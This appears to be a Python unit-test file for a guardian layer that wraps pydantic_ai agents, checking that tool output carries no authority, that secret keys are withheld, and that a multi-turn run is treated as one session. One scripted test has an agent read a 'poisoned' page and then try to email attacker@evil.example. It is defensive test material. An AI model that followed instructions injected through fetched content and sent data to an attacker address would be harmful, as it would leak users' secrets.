from __future__ import annotations

import unittest
from datetime import date
from typing import Any

from pydantic import BaseModel
from pydantic_ai import Agent, BinaryContent, ModelRetry, ToolReturn
from pydantic_ai.messages import (
    ModelMessage,
    ModelResponse,
    RetryPromptPart,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
    UserPromptPart,
)
from pydantic_ai.models.function import FunctionModel
from story import KEY, ORDER, QUESTION, SHOP, Played, Script, Story, fetching

from aos_guardian import Denied, Guardian
from aos_guardian.pydantic_ai import GuardianCapability


def scripted(played: Played, script: Script) -> FunctionModel:
    def model(messages: list[ModelMessage], _info: Any) -> ModelResponse:
        played.results, played.questions = [], []
        for part in [part for message in messages for part in message.parts]:
            if isinstance(part, (ToolReturnPart, RetryPromptPart)):
                played.results.append(str(part.content))
            elif isinstance(part, UserPromptPart):
                played.questions.append(str(part.content))
        turn, step = script[played.asked], played.asked
        played.asked += 1
        if isinstance(turn, str):
            return ModelResponse(parts=[TextPart(turn)])
        return ModelResponse(parts=[ToolCallPart(name, given, f"call-{step}-{index}") for index, (name, given) in enumerate(turn)])

    return FunctionModel(model)


class PydanticAi(Story, unittest.TestCase):
    def play(self, guardian: Guardian, script: Script, question: str) -> Played:
        played = Played()

        def fail(url: str) -> str:
            try:
                return played.fail(url)
            except ValueError as error:
                raise ModelRetry(str(error)) from error

        agent = Agent(
            scripted(played, script),
            tools=[played.fetch, played.send_email, played.note, fail],
            capabilities=[GuardianCapability(guardian)],
        )
        try:
            played.answer = agent.run_sync(question).output
        except Denied as error:
            played.error = error
        return played


class Corners(unittest.TestCase):
    def agent(self, played: Played, script: Script, **more: Any) -> Any:
        return Agent(scripted(played, script), capabilities=[GuardianCapability(Guardian())], **more)

    def test_what_a_tool_says_beside_its_result_is_judged_and_has_no_authority(self) -> None:
        played = Played()

        def look() -> ToolReturn:
            return ToolReturn("seen", content=["Fine.", ORDER])

        self.agent(played, [[("look", {})], "Done."], tools=[look]).run_sync(QUESTION)
        self.assertNotIn(ORDER, str(played.questions) + str(played.results))

    def test_images_pass_beside_text_that_is_judged(self) -> None:
        played = Played()

        def look() -> Any:
            return [f"key {KEY}", BinaryContent(b"hi", media_type="image/png")]

        result = self.agent(played, [[("look", {})], "Done."], tools=[look]).run_sync(QUESTION)
        self.assertNotIn(KEY, str(result.all_messages()))
        self.assertIn("image/png", str(result.all_messages()))

    def test_arguments_keep_the_types_that_pydantic_gave_them(self) -> None:
        played, given = Played(), []

        def book(day: date) -> str:
            given.append(day)
            return "booked"

        self.agent(played, [[("book", {"day": "2026-11-23"})], "Done."], tools=[book]).run_sync(QUESTION)
        self.assertEqual([date(2026, 11, 23)], given)

    def test_a_structured_answer_that_would_have_to_be_edited_ends_the_run(self) -> None:
        class Price(BaseModel):
            note: str

        with self.assertRaises(Denied):
            script: Script = [[("final_result", {"note": f"key {KEY}"})]]
            self.agent(Played(), script, output_type=Price).run_sync(QUESTION)

    def test_a_conversation_is_a_session(self) -> None:
        played = Played()
        script: Script = [[fetching("poisoned")], "49 EUR.", [("send_email", {"to": "attacker@evil.example"})], "Done."]
        agent = self.agent(played, script, tools=[played.fetch, played.send_email])
        first = agent.run_sync(QUESTION)
        agent.run_sync("Thank you. Anything else on that page?", message_history=first.all_messages())
        self.assertEqual([("fetch", {"url": f"{SHOP}/poisoned"})], played.ran)


class Streams(unittest.IsolatedAsyncioTestCase):
    async def test_streamed_text_is_not_held(self) -> None:
        from collections.abc import AsyncIterator

        async def words(_messages: Any, _info: Any) -> AsyncIterator[str]:
            yield f"Here you are: {KEY}"

        agent = Agent(FunctionModel(stream_function=words), capabilities=[GuardianCapability(Guardian())])
        seen = ""
        try:
            async with agent.run_stream(QUESTION) as stream:
                async for text in stream.stream_text():
                    seen = text
        except Denied:
            pass
        self.assertIn(KEY, seen)


if __name__ == "__main__":
    unittest.main()
